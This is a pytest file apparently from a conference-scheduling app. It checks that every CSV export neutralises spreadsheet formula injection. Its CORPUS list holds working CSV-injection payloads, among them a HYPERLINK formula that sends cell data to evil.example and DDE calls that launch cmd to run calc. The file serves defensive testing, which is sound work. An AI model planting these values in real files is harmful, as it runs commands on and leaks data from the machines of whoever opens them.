"""Every CSV Rencontre writes is safe to open in a spreadsheet: a corpus of formula payloads
in every text a user can type (titles, abstracts, rooms, tracks, speakers, names, questions)
never starts a cell that a spreadsheet would run, and the programme CSV reads back as it was.
"""

from __future__ import annotations

import csv
import io

import pytest

from rencontre.attendance import report
from rencontre.engine.messages import Actor, Role
from rencontre.engine.reports import spreadsheet_csv
from rencontre.rooms import qa_export
from rencontre.schedule.formats import export_csv, import_csv
from rencontre.schedule.model import Programme
from tests.unit.helpers import MODERATOR, demo_driver

# OWASP's list and what the review found: a leading = + - @, TAB or CR (and LF, and the
# full-width signs some spreadsheets read as ASCII) starts a formula or a DDE call.
CORPUS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'", "\t=1+1", "\r=1+1", "\n=1+1", "\t\r=2+2",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]
TRIGGERS = tuple("=+-@\t\r\n＝＋－＠")


def cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_safe(data: bytes, what: str) -> None:
    live = [cell for cell in cells(data) if cell.startswith(TRIGGERS)]
    assert live == [], f"{what}: {len(live)} live formula cells: {live[:3]}"


def payload_programme() -> Programme:
    driver = demo_driver()
    programme = driver.state.programme.to_json()
    for n, session in enumerate(programme["sessions"]):
        session["title"] = {"en": CORPUS[n % len(CORPUS)], "fr": CORPUS[(n + 1) % len(CORPUS)]}
        session["abstract"] = {"es": CORPUS[(n + 2) % len(CORPUS)]}
    for n, room in enumerate(programme["rooms"]):
        room["name"] = {"en": CORPUS[n % len(CORPUS)]}
    for n, track in enumerate(programme["tracks"]):
        track["name"] = {"en": CORPUS[(n + 3) % len(CORPUS)]}
    for n, speaker in enumerate(programme["speakers"]):
        speaker["name"] = CORPUS[(n + 4) % len(CORPUS)]
    return Programme.from_json(programme)


def test_the_programme_csv_has_no_live_formula():
    programme = payload_programme()
    data = export_csv(programme)
    assert_safe(data, "schedule.csv")
    assert sum(cell.startswith("'") for cell in cells(data)) >= 3 * len(programme.sessions)


def test_the_programme_csv_reads_back_as_it_was():
    programme = payload_programme()
    again = import_csv(export_csv(programme))
    for session in programme.sessions.values():
        assert again.sessions[session.id].title == {
            lang: text.strip() for lang, text in session.title.items()}


@pytest.fixture
def driver():
    driver = demo_driver()
    driver.send("qa.settings", {"session": "s02", "open": "open", "premoderation": False},
                actor=MODERATOR)
    for n, text in enumerate(CORPUS):
        outcome = driver.send("attendance.register", {
            "name": f"Person {n} {text}".strip() if n % 2 else text.strip() or "x",
            "organisation": text, "city": text})
        assert outcome["ok"], outcome
        asker = Actor(f"asker{n}", Role.ATTENDEE, text.strip() or "x")
        asked = driver.send("qa.ask", {"session": "s02", "text": text.strip() or "x"},
                            actor=asker)
        assert asked["ok"], asked
    return driver


def test_every_attendance_report_and_the_qa_export_have_no_live_formula(driver):
    state, now = driver.state, driver.clock
    assert_safe(report.export_csv(state, now), "attendance.csv")
    assert_safe(report.export_sessions_csv(state, now), "sessions.csv")
    assert_safe(report.export_minutes_csv(state, now, 0), "minutes.csv")
    assert_safe(report.export_conflicts_csv(state, now), "conflicts.csv")
    tokens = {registration: "p-x.y" for registration in state.attendance.registrations}
    assert_safe(report.links_csv(state, tokens, "https://rencontre.example"), "links.csv")
    assert_safe(qa_export.export_csv(state, "s02"), "questions.csv")


@pytest.mark.parametrize("text", CORPUS)
def test_the_one_writer_neutralises_each_payload_and_keeps_its_text(text):
    data = spreadsheet_csv(["a", "b"], [{"a": text, "b": 7}, ["x", text]])
    row1, row2 = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert row1 == ["'" + text, "7"] and row2 == ["x", "'" + text]


def test_numbers_and_plain_text_are_left_alone():
    data = spreadsheet_csv(["n", "t"], [{"n": -3, "t": "Querétaro"}, {"n": 2.5, "t": "a=b"}])
    assert data.decode("utf-8-sig") == "n,t\r\n-3,Querétaro\r\n2.5,a=b\r\n"
